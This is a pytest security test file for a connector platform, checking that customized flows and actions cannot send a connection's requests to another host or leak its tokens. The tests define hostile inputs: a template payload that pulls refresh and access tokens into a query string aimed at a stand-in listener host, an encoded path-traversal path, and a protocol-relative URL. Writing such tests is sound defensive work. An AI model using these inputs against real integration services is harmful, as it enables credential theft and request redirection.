"""A customer who customizes its flow or action instance cannot steer the connection's
requests off the app's API, nor read the connection's credentials through a template."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route
from temporalio.testing import WorkflowEnvironment

from tests.conftest import Osmo
from tests.fakes import serve
from tests.workflows.flow_fixtures import (
    crm_connection,
    define_all,
    finished,
    flow_worker,
)

STEAL = "?rt={{ credentials.refresh_token }}&at={{ credentials.access_token }}"


@pytest.fixture
def listener() -> Iterator[tuple[list[dict[str, Any]], str]]:
    """Another host on the network, echoing whatever reaches it."""
    seen: list[dict[str, Any]] = []

    async def echo(request: Request) -> JSONResponse:
        entry = {"url": str(request.url), "headers": dict(request.headers)}
        seen.append(entry)
        return JSONResponse(entry)

    app = Starlette(routes=[Route("/{path:path}", echo, methods=["GET", "POST"])])
    with serve(app) as url:
        yield seen, url


@pytest.fixture
async def connected(osmo_sqlite: Osmo, crm) -> str:
    return await crm_connection(osmo_sqlite, crm[1])


def secrets_of(osmo: Osmo, connection_id: str) -> list[str]:
    credentials = osmo.services.connections.load(connection_id).credentials
    return [credentials["access_token"], credentials["refresh_token"]]


CALL_FLOW: dict[str, Any] = {
    "key": "call-api",
    "nodes": {
        "trigger": {"type": "api-trigger", "links": [{"key": "call"}]},
        "call": {"type": "api-request-to-external-app", "config": {"path": "/api/v1/me"}},
    },
}


def customized(path: str) -> dict[str, Any]:
    call = {"type": "api-request-to-external-app", "config": {"path": path}}
    return {"nodes": {**CALL_FLOW["nodes"], "call": call}}


async def run_customized_flow(osmo: Osmo, connection_id: str, path: str) -> dict[str, Any]:
    instance = f"/connections/{connection_id}/flows/call-api"
    patched = await osmo.call("PATCH", instance, tenant="acme", json=customized(path))
    assert patched.status_code == 200, patched.text
    started = await osmo.call("POST", f"{instance}/run", tenant="acme", json={"input": {}})
    assert started.status_code == 201, started.text
    return await finished(osmo, started.json()["flowRunId"])


async def test_customized_flow_cannot_send_the_connection_elsewhere(
    osmo_sqlite: Osmo, connected: str, crm, listener, env: WorkflowEnvironment
) -> None:
    osmo, fake = osmo_sqlite, crm[0]
    seen, other_host = listener
    await define_all(osmo, ("/flows", CALL_FLOW))
    async with flow_worker(osmo, env):
        stolen = await run_customized_flow(osmo, connected, f"{other_host}/x{STEAL}")
        climbed = await run_customized_flow(osmo, connected, "%2e%2e/%2e%2e/x")
        literal = await run_customized_flow(osmo, connected, f"/api/v1/me{STEAL}")
    assert seen == []  # nothing, and no Authorization header, reached the other host
    for run in (stolen, climbed):
        assert run["state"] == "failed" and run["failedNodeKey"] == "call", run
        call = next(r for r in run["nodeRuns"] if r["nodeKey"] == "call")
        assert call["error"]["key"] == "url_outside_api", call
    # a relative path reaches the app, with the template as text: nothing was rendered
    assert literal["state"] == "completed", literal
    assert fake.api_requests[-1]["query"] == {
        "rt": "{{ credentials.refresh_token }}",
        "at": "{{ credentials.access_token }}",
    }
    everything = json.dumps([stolen, climbed, literal])
    for secret in secrets_of(osmo, connected):
        assert secret not in everything


RAW_ACTION: dict[str, Any] = {
    "key": "raw-call",
    "type": "api-request-to-external-app",
    "config": {"path": "/api/v1/me"},
}


async def test_customized_action_cannot_send_the_connection_elsewhere(
    osmo_sqlite: Osmo, connected: str, crm, listener, env: WorkflowEnvironment
) -> None:
    osmo = osmo_sqlite
    seen, other_host = listener
    await define_all(osmo, ("/actions", RAW_ACTION))
    instance = f"/connections/{connected}/actions/raw-call"
    answers = []
    async with flow_worker(osmo, env):
        for path in (f"{other_host}/x{STEAL}", f"//{other_host.split('//')[1]}/x{STEAL}"):
            patched = await osmo.call(
                "PATCH", instance, tenant="acme", json={"config": {"path": path}}
            )
            assert patched.status_code == 200, patched.text
            answers.append(
                await osmo.call("POST", f"{instance}/run", tenant="acme", json={"input": {}})
            )
    assert seen == []
    for answer in answers:
        assert answer.status_code == 400, answer.text
        assert answer.json()["key"] == "url_outside_api"
        for secret in secrets_of(osmo, connected):
            assert secret not in answer.text
